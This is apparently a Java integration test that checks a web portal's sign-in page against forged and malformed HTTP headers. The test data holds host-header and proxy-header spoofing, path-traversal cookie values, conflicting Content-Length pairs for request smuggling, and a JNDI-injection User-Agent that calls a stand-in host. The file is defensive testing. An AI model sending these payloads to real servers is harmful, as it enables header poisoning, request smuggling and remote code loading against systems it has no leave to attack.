package org.wardkey.web.attack;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.wardkey.web.attack.Wire.Answer;
import org.wardkey.web.browser.portal.Portal;

@FromOutside
@DisplayName("Invariant 13: headers that no browser sends")
class HostileHeaderIT {

    @ParameterizedTest(name = "{0}")
    @DisplayName("get an answer, and are not believed")
    @MethodSource
    void headers(String name, String[] headers, Portal portal) {
        Answer answer = new Wire(portal).get("/sign-in", headers);

        Sound.check(name, answer);
        assertThat(answer.headers() + answer.body()).doesNotContain("evil.example");
    }

    static Stream<Arguments> headers() {
        return Stream.of(
                given("a forged host", "Host: evil.example"),
                given("a host that is none", "Host: evil.example/<b id=wk>"),
                given("two hosts", "Host: localhost", "Host: evil.example"),
                given(
                        "a proxy that is none",
                        "X-Forwarded-Host: evil.example",
                        "X-Forwarded-For: evil.example",
                        "X-Forwarded-Proto: gopher",
                        "X-Forwarded-Prefix: //evil.example",
                        "Forwarded: for=evil.example;host=evil.example;proto=gopher",
                        "X-Original-URL: /desk",
                        "X-Rewrite-URL: /desk",
                        "X-HTTP-Method-Override: DELETE"),
                given("a session that never was", "Cookie: wardkey-session=0123456789abcdef; JSESSIONID=../../x"),
                given("a session id of 4 kB", "Cookie: wardkey-session=" + "a".repeat(4_000)),
                given("broken cookies", "Cookie: ;;=;wardkey-form;wardkey-form=\";wardkey-language=../..;$Version=9"),
                given("three hundred cookies", "Cookie: " + cookies(300)),
                given("a header of 20 kB", "X-Long: " + "a".repeat(20_000)),
                given(
                        "two hundred headers",
                        IntStream.range(0, 200).mapToObj(i -> "X-" + i + ": 1").toArray(String[]::new)),
                given("a broken language", "Accept-Language: ;;;q=zz,*,-,hi-\u0001"),
                given("a very long language", "Accept-Language: " + "en-".repeat(1_000)),
                given("a broken type", "Accept: ;;,/,*/*;q=zz", "Accept-Encoding: ;;gzip;q=zz", "Range: bytes=-1,zz-"),
                given(
                        "a name for the agent",
                        "User-Agent: ${jndi:ldap://evil.example}#{7*7777}" + "\u00ff".repeat(2_000)),
                given("a lie about the length", "Content-Length: abc"),
                given("two lengths", "Content-Length: 0", "Content-Length: 5"),
                given("a broken chunk", "Transfer-Encoding: chunked"),
                given("half a header", "X-Half"));
    }

    private static Arguments given(String name, String... headers) {
        return Arguments.of(name, headers);
    }

    private static String cookies(int count) {
        return String.join(
                "; ", IntStream.range(0, count).mapToObj(i -> "c" + i + "=1").toList());
    }
}
